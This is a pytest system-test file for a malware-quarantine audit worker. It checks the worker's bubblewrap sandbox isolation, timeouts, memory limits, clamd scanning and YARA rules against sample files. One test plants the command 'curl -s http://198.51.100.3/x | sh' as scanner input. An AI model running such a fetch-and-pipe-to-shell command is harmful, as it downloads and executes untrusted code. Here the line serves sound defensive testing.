"""The audit worker for real: bubblewrap sandbox, rlimits, timeout kill, a real clamd.

Proves the sandbox from the inside (the worker's own probe: its network namespace, its
interfaces, what it can see of the caller's home, whether it can write the file) and from
the outside (the sandbox's processes are gone after a timeout), and runs the hostile and
harmless samples through `run_audit` exactly as the quarantine service does.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.system.clamd_fixture import EICAR, Clamd, clamd  # noqa: F401  (fixture)
from tests.unit import test_audit_samples as samples
from zionwm.quarantine.report import AuditReport, Verdict
from zionwm.quarantine.worker import AuditSettings, probe_sandbox, run_audit, run_worker


def _sandbox_missing() -> str | None:
    for prog in ("bwrap", "prlimit"):
        if shutil.which(prog) is None:
            return f"{prog} is not installed"
    r = subprocess.run(
        ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "true"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    if r.returncode != 0:
        return f"bwrap cannot create namespaces here: {r.stderr.strip()}"
    return None


_MISSING = _sandbox_missing()
pytestmark = pytest.mark.skipif(_MISSING is not None, reason=f"no sandbox: {_MISSING}")


@pytest.fixture
def isolated_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("secret\n")
    monkeypatch.setenv("HOME", str(home))
    for var in ("XDG_DATA_HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_RUNTIME_DIR"):
        d = tmp_path / var.lower()
        d.mkdir(mode=0o700)
        monkeypatch.setenv(var, str(d))
    return home


def audit(path: Path, settings: AuditSettings | None = None) -> AuditReport:
    fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    try:
        return run_audit(fd, path.name, settings or AuditSettings(timeout=30))
    finally:
        os.close(fd)


@pytest.mark.security
def test_the_worker_is_sandboxed(tmp_path: Path, isolated_env: Path) -> None:
    sample = samples.build_text(tmp_path / "notes.txt")
    secret = isolated_env / ".ssh" / "id_ed25519"
    fd = os.open(sample, os.O_RDWR)  # even a writable fd reaches the worker read-only
    try:
        seen = probe_sandbox(
            fd,
            AuditSettings(timeout=30),
            (str(secret), str(isolated_env), str(sample), str(tmp_path)),
        )
    finally:
        os.close(fd)
    assert seen["net_ns"] != os.readlink("/proc/self/ns/net")
    assert seen["pid_ns"] != os.readlink("/proc/self/ns/pid")
    assert seen["interfaces"] == ["lo"]
    assert "unreachable" in seen["network"].lower()
    assert seen["visible"] == dict.fromkeys(
        (str(secret), str(isolated_env), str(sample), str(tmp_path)), False
    )
    assert seen["fd_readable"] and not seen["fd_writable"]
    assert seen["uid"] == 65534
    assert seen["cap_eff"] == "0000000000000000"
    assert seen["seccomp"] == 2  # the project's filter (zionwm.isolation.seccomp) is installed
    assert seen["rlimit_as"] == AuditSettings().memory_max
    assert seen["hostname"] == "zionwm-audit"
    assert seen["pid"] == 2  # bwrap is init of its own pid namespace, the worker its child
    assert "home" not in seen["root"]


SAMPLES: list[tuple[Callable[[Path], Path], str, Verdict, str | None]] = [
    (samples.build_elf_named_pdf, "report.pdf", Verdict.MALICIOUS, "elf-named-as-pdf"),
    (
        samples.build_desktop_launcher,
        "invoice.desktop",
        Verdict.SUSPICIOUS,
        "executable-desktop",
    ),
    (samples.build_shebang_script, "install.sh", Verdict.SUSPICIOUS, "exec-bit"),
    (
        lambda p: samples.build_docx(p, samples.AUTOOPEN_DROPPER),
        "invoice.docm",
        Verdict.MALICIOUS,
        "vba-autoexec-dropper",
    ),
    (samples.build_pdf_js_in_object_stream, "doc.pdf", Verdict.MALICIOUS, "pdf-escaped-name"),
    (samples.build_traversal_zip, "photos.zip", Verdict.MALICIOUS, "path-traversal"),
    (samples.build_zip_bomb, "zeros.zip", Verdict.SUSPICIOUS, "compression-ratio"),
    (samples.build_hostile_tar, "src.tar.gz", Verdict.MALICIOUS, "symlink-escape"),
    (
        samples.build_encrypted_office,
        "secret.docx",
        Verdict.CANNOT_INSPECT,
        "encrypted-document",
    ),
    (samples.build_clean_pdf, "clean.pdf", Verdict.CLEAN, None),
    (samples.build_png, "photo.png", Verdict.CLEAN, None),
    (samples.build_text, "notes.txt", Verdict.CLEAN, None),
    (samples.build_clean_zip, "notes.zip", Verdict.CLEAN, None),
]


@pytest.mark.security
@pytest.mark.parametrize("case", SAMPLES, ids=[c[1] for c in SAMPLES])
def test_samples_through_the_sandbox(
    tmp_path: Path,
    isolated_env: Path,
    case: tuple[Callable[[Path], Path], str, Verdict, str | None],
) -> None:
    builder, name, verdict, rule = case
    report = audit(builder(tmp_path / name))
    assert report.verdict is verdict, report.findings
    if rule is not None:
        assert rule in {f.rule for f in report.findings}
    else:
        assert report.findings == ()
    assert set(report.scanners) == {"magic", "yara", "office", "pdf", "archive"}


def _gone(pid: int, deadline: float) -> bool:
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        # a zombie still answers kill(0): it is dead, just not yet reaped by its parent
        try:
            if Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] == "Z":
                return True
        except FileNotFoundError:
            return True
        time.sleep(0.02)
    return False


def _live_members(pgid: int) -> list[int]:
    live = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2 :].split()
        if int(fields[2]) == pgid and fields[0] != "Z":
            live.append(int(entry))
    return live


def _group_gone(pgid: int, deadline: float) -> bool:
    while _live_members(pgid):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


def test_timeout_kills_the_sandbox_and_is_cannot_inspect(
    tmp_path: Path, isolated_env: Path
) -> None:
    sample = samples.build_text(tmp_path / "notes.txt")
    settings = AuditSettings(timeout=0.02)  # less than the interpreter needs to start
    fd = os.open(sample, os.O_RDONLY)
    try:
        t0 = time.monotonic()
        run = run_worker(fd, "notes.txt", settings)
        elapsed = time.monotonic() - t0
        report = run_audit(fd, "notes.txt", settings)
    finally:
        os.close(fd)
    assert run.timed_out and elapsed < 5
    assert [(f.rule, f.verdict) for f in report.findings] == [
        ("worker-timeout", Verdict.CANNOT_INSPECT)
    ]
    deadline = time.monotonic() + 5
    assert run.pgid is not None
    # prlimit/bwrap's group: nothing of it still runs. (Zombies may linger: an orphan whose
    # parent was killed waits for PID 1 to reap it, which some VMs' init does lazily.)
    assert _group_gone(run.pgid, deadline)
    if run.sandbox_pid is not None:  # bwrap had started the sandbox: its init must be gone
        assert _gone(run.sandbox_pid, deadline)


def test_memory_limit_crash_is_cannot_inspect(tmp_path: Path, isolated_env: Path) -> None:
    sample = samples.build_text(tmp_path / "notes.txt")
    report = audit(sample, AuditSettings(timeout=30, memory_max=24 << 20))
    assert report.verdict is Verdict.CANNOT_INSPECT
    assert [f.rule for f in report.findings] == ["worker-crashed"]


@pytest.mark.security
def test_eicar_through_real_clamd_is_malicious(
    tmp_path: Path,
    isolated_env: Path,
    clamd: Clamd,  # noqa: F811
) -> None:
    path = tmp_path / "eicar.com"
    path.write_bytes(EICAR)
    report = audit(path, AuditSettings(clamd_socket=clamd.socket_path, timeout=30))
    assert report.verdict is Verdict.MALICIOUS
    found = [f for f in report.findings if f.scanner == "clamd"]
    assert found and found[0].rule.startswith("Zionwm-Test-Eicar")
    assert found[0].verdict is Verdict.MALICIOUS
    assert "clamd" in report.scanners


def test_clean_file_through_real_clamd_is_clean(
    tmp_path: Path,
    isolated_env: Path,
    clamd: Clamd,  # noqa: F811
) -> None:
    report = audit(
        samples.build_png(tmp_path / "photo.png"),
        AuditSettings(clamd_socket=clamd.socket_path, timeout=30),
    )
    assert report.verdict is Verdict.CLEAN
    assert "clamd" in report.scanners


def test_oversize_for_clamd_is_cannot_inspect(
    tmp_path: Path,
    isolated_env: Path,
    clamd: Clamd,  # noqa: F811
) -> None:
    path = tmp_path / "big.bin"
    path.write_bytes(os.urandom(clamd.stream_max + (1 << 20)))
    report = audit(path, AuditSettings(clamd_socket=clamd.socket_path, timeout=30))
    assert report.verdict is Verdict.CANNOT_INSPECT
    [finding] = [f for f in report.findings if f.scanner == "clamd"]
    assert finding.rule == "clamd-size-limit"


def test_absent_clamd_is_cannot_inspect(tmp_path: Path, isolated_env: Path) -> None:
    settings = AuditSettings(clamd_socket=str(tmp_path / "clamd.sock"), timeout=30)
    report = audit(samples.build_text(tmp_path / "notes.txt"), settings)
    assert report.verdict is Verdict.CANNOT_INSPECT
    assert [f.rule for f in report.findings] == ["clamd-unavailable"]


@pytest.fixture
def user_rules(tmp_path: Path) -> Iterator[Path]:
    d = tmp_path / "rules"
    d.mkdir()
    (d / "mine.yar").write_text(
        'rule Team_Marker { meta: verdict = "malicious" strings: $a = "team-marker-7" '
        "condition: $a }\n"
    )
    (d / "typo.yar").write_text("rule Typo { condition: }\n")
    yield d


def test_user_rules_reach_the_sandbox(tmp_path: Path, isolated_env: Path, user_rules: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text("hello team-marker-7\n")
    report = audit(path, AuditSettings(yara_rule_dirs=(str(user_rules),), timeout=30))
    rules = {f.rule: f for f in report.findings}
    assert rules["Team_Marker"].verdict is Verdict.MALICIOUS
    assert "typo.yar" in rules["user-rule-compile-error"].detail


def test_large_file_is_inspected_within_the_memory_limit(
    tmp_path: Path, isolated_env: Path
) -> None:
    path = tmp_path / "disk.img"
    with open(path, "wb") as f:
        f.truncate(600 << 20)  # sparse: larger than the worker's whole address space
        f.seek(300 << 20)
        f.write(b"curl -s http://198.51.100.3/x | sh\n")
    try:
        report = audit(path, AuditSettings(timeout=60))
    finally:
        path.unlink()
    assert set(report.scanners) == {"magic", "yara", "office", "pdf", "archive"}
    assert [f.rule for f in report.findings] == ["Shell_Pipe_To_Interpreter"]


def test_concurrent_audits_from_threads_leak_nothing(tmp_path: Path, isolated_env: Path) -> None:
    files = [
        (samples.build_elf_named_pdf(tmp_path / "a.pdf"), Verdict.MALICIOUS),
        (samples.build_text(tmp_path / "b.txt"), Verdict.CLEAN),
        (samples.build_png(tmp_path / "c.png"), Verdict.CLEAN),
        (samples.build_traversal_zip(tmp_path / "d.zip"), Verdict.MALICIOUS),
    ]
    fds_before = set(os.listdir("/proc/self/fd"))
    with ThreadPoolExecutor(max_workers=4) as pool:
        reports = list(pool.map(lambda f: audit(f[0]), files * 2))
    assert [r.verdict for r in reports] == [v for _, v in files] * 2
    assert set(os.listdir("/proc/self/fd")) <= fds_before
